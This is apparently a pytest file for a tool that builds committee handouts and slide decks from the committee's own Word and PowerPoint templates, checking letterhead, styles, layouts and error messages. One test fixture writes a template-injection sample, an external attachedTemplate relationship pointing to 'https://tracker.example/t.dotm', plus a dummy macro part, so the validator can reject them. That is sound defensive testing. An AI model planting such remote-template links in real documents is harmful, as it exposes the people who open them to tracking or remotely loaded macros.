"""A committee's own templates in data/local/: its letterhead, page set-up and styles carry every Word
handout, its layouts and slide size every deck; its example content is left out; a broken or
macro-carrying template stops the build with a message saying why."""

from __future__ import annotations

import re
import shutil
import zipfile
from pathlib import Path

import pytest
from docx import Document
from docx.oxml.ns import qn
from docx.shared import Cm
from pptx import Presentation
from pptx.util import Inches as SlideInches

from macros.outputs.cache import DownloadFailure, build_downloads, check_templates
from macros.outputs.downloads import plan_downloads
from macros.outputs.edition import edition_for
from tests.helpers import ROOT
from tests.office import docx_styles, docx_text, package_xml, pdf_pages, pptx_slides, to_pdf

from .conftest import BUILT, SITE_URL

LETTERHEAD = "Riverside Child Protection Committee · letterhead"
ADDRESS = "Riverside CPC, 1 River Street, Riverside"
TEMPLATE_BODY = "Template body text that must not be kept"
TEMPLATE_SLIDE = "A slide of the template, not to be kept"


def word_template(path: Path) -> None:
    """A letterhead as a committee saves it: its own margins, header, footer and font, and few styles."""
    document = Document()
    section = document.sections[0]
    section.page_width, section.page_height = Cm(21.0), Cm(29.7)
    section.left_margin = section.right_margin = Cm(3.1)
    section.top_margin = Cm(3.5)
    section.header.paragraphs[0].text = LETTERHEAD
    section.footer.paragraphs[0].text = ADDRESS
    document.styles["Normal"].font.name = "Caladea"
    document.add_paragraph(TEMPLATE_BODY)
    styles = document.styles.element
    for style in styles.findall(qn("w:style")):  # Word saves only the styles a document uses
        if style.find(qn("w:name")).get(qn("w:val")) in ("heading 2", "List Bullet", "Table Grid"):
            styles.remove(style)
    document.save(str(path))


def slides_template(path: Path) -> None:
    deck = Presentation()
    deck.slide_width, deck.slide_height = SlideInches(10), SlideInches(5.625)
    deck.slide_layouts[0].name = "Riverside cover"
    deck.slide_layouts[1].name = "Riverside content"
    slide = deck.slides.add_slide(deck.slide_layouts[5])
    slide.shapes.title.text = TEMPLATE_SLIDE
    deck.save(str(path))


@pytest.fixture(scope="module")
def committee(project, tmp_path_factory):
    """The real portfolio's downloads, made with a committee's templates in its data/local/."""
    data = tmp_path_factory.mktemp("committee") / "data"
    shutil.copytree(ROOT / "data", data)
    word_template(data / "local" / "handout-template.docx")
    slides_template(data / "local" / "slides-template.pptx")
    edition = edition_for(project, BUILT, SITE_URL, data)
    written = build_downloads(project, edition, plan_downloads(project, edition), data.parent / "cache")
    return {download.path: path for download, path in written}


def test_the_letterhead_margins_and_font_carry_every_handout(committee):
    handouts = [path for name, path in committee.items() if name.endswith(".docx")]
    assert handouts
    for path in handouts:
        document = Document(str(path))
        section = document.sections[-1]
        assert section.header.paragraphs[0].text == LETTERHEAD
        assert section.footer.paragraphs[0].text == ADDRESS
        assert abs(section.left_margin - Cm(3.1)) < Cm(0.01) and abs(section.top_margin - Cm(3.5)) < Cm(0.01)
        assert document.styles["Normal"].font.name == "Caladea"
        assert TEMPLATE_BODY not in docx_text(path)
        fields = [instr for xml in package_xml(path).values() for instr in re.findall(r'w:instr="([^"]*)"', xml)]
        assert fields == [], "the committee's footer is kept as it is: no page number of ours"


def test_styles_the_template_lacks_are_added_as_words_built_in_ones(committee):
    path = committee["downloads/case-study-01-one.docx"]
    styles = dict((text, name) for name, text in docx_styles(path))
    assert styles["Something to think about"] == "Heading 2"
    heading = Document(str(path)).styles["Heading 2"]
    assert heading.element.get(qn("w:styleId")) and heading.type == 1
    grid = Document(str(committee["downloads/ready-reckoner.docx"])).tables[0]
    assert grid.style.name == "Table Grid"


def test_decks_use_the_templates_layouts_and_size_and_drop_its_slides(committee):
    decks = [path for name, path in committee.items() if name.endswith(".pptx")]
    assert decks
    for path in decks:
        deck = Presentation(str(path))
        assert (deck.slide_width, deck.slide_height) == (SlideInches(10), SlideInches(5.625))
        slides = pptx_slides(path)
        assert slides[0]["layout"] == "Riverside cover"
        assert "Riverside content" in {slide["layout"] for slide in slides}
        assert TEMPLATE_SLIDE not in {slide["title"] for slide in slides}
        assert sum(1 for name in package_xml(path) if name.startswith("ppt/slides/slide")) == len(slides)


def test_printed_with_the_letterhead_the_reckoner_still_fits_one_page(committee, tmp_path):
    files = [committee["downloads/ready-reckoner.docx"], committee["downloads/case-study-03-three.docx"]]
    pdfs = to_pdf(files, tmp_path)
    reckoner = pdf_pages(pdfs[files[0]])
    assert len(reckoner) == 1 and LETTERHEAD in reckoner[0]
    assert len(pdf_pages(pdfs[files[1]])) <= 2


def test_a_word_template_file_works_too(project, tmp_path):
    """Saved from Word as a template (.dotx): the same package, typed as a template."""
    data = tmp_path / "data"
    (data / "local").mkdir(parents=True)
    word_template(tmp_path / "plain.docx")
    with zipfile.ZipFile(tmp_path / "plain.docx") as source, zipfile.ZipFile(data / "local" / "handout-template.dotx", "w") as target:
        for name in source.namelist():
            content = source.read(name)
            if name == "[Content_Types].xml":
                content = content.replace(b"wordprocessingml.document.main+xml", b"wordprocessingml.template.main+xml")
            target.writestr(name, content)
    edition = edition_for(project, BUILT, None, data)
    assert edition.handout_template.name == "handout-template.dotx"
    check_templates(edition, tmp_path)
    reckoner = [d for d in plan_downloads(project, edition) if d.kind == "ready_reckoner"]
    [(_, path)] = build_downloads(project, edition, reckoner, tmp_path / "cache")
    assert Document(str(path)).sections[-1].header.paragraphs[0].text == LETTERHEAD


@pytest.mark.parametrize("name,content,reason", [
    ("handout-template.docx", b"not a Word document", "it cannot be opened as a package of that kind; open it and save it as a Word Document (.docx)"),
    ("slides-template.pptx", b"PK\x03\x04 broken", "it cannot be opened as a package of that kind; open it and save it as a PowerPoint Presentation (.pptx)"),
    ("handout-template.docx", "macros", "it holds macros; save it as a Word Document (.docx), which cannot"),
    # Template injection: Word fetches an attached template named by address when the handout opens.
    ("handout-template.docx", "remote template", "it loads 'https://tracker.example/t.dotm' from outside the file when opened; "
     "save a copy without linked pictures or templates (Word: File, Info, Edit Links to Files, Break Link)"),
])
def test_a_template_that_cannot_be_used_is_named_with_the_reason(project, tmp_path, name, content, reason):
    local = tmp_path / "data" / "local"
    local.mkdir(parents=True)
    if content == "macros":
        word_template(tmp_path / "plain.docx")
        shutil.copy(tmp_path / "plain.docx", local / name)
        with zipfile.ZipFile(local / name, "a") as archive:
            archive.writestr("word/vbaProject.bin", b"\x00macro")
    elif content == "remote template":
        word_template(tmp_path / "plain.docx")
        shutil.copy(tmp_path / "plain.docx", local / name)
        with zipfile.ZipFile(local / name, "a") as archive:
            archive.writestr("word/_rels/settings.xml.rels", b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
                             b'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
                             b'Target="https://tracker.example/t.dotm" TargetMode="External"/></Relationships>')
    else:
        (local / name).write_bytes(content)
    edition = edition_for(project, BUILT, None, tmp_path / "data")
    with pytest.raises(DownloadFailure) as failure:
        check_templates(edition, tmp_path)
    assert str(failure.value) == f"data/local/{name}: this template cannot be used: {reason}"


def test_validate_opens_the_templates_as_the_build_would(tmp_path, capsys, monkeypatch):
    from macros.commands import validate

    project = tmp_path / "project"
    shutil.copytree(ROOT / "data", project / "data")
    shutil.copytree(ROOT / "content", project / "content")
    (project / "data" / "local" / "slides-template.pptx").write_bytes(b"not a presentation")
    monkeypatch.chdir(project)
    assert validate.main(["data"]) == 1
    assert capsys.readouterr().err.strip() == (
        "data/local/slides-template.pptx: this template cannot be used: it cannot be opened as a package of that kind; "
        "open it and save it as a PowerPoint Presentation (.pptx)")
    (project / "data" / "local" / "slides-template.pptx").unlink()
    slides_template(project / "data" / "local" / "slides-template.pptx")
    assert validate.main(["data"]) == 0


def test_a_layout_named_as_expected_but_lacking_its_placeholders_is_passed_over(project, tmp_path):
    """A committee's "Title Slide" with its title deleted: the deck takes a layout that has one."""
    data = tmp_path / "data"
    (data / "local").mkdir(parents=True)
    deck = Presentation()
    cover = deck.slide_layouts[0]
    for shape in list(cover.placeholders):
        if shape.placeholder_format.type is not None and "TITLE" in str(shape.placeholder_format.type):
            shape._element.getparent().remove(shape._element)
    deck.save(str(data / "local" / "slides-template.pptx"))
    edition = edition_for(project, BUILT, None, data)
    check_templates(edition, tmp_path)
    planned = [d for d in plan_downloads(project, edition) if d.format == "pptx"]
    for download, path in build_downloads(project, edition, planned, tmp_path / "cache"):
        slides = pptx_slides(path)
        assert slides[0]["title"] == download.entry.title and slides[0]["layout"] != "Title Slide"
        assert all(slide["title"] for slide in slides)
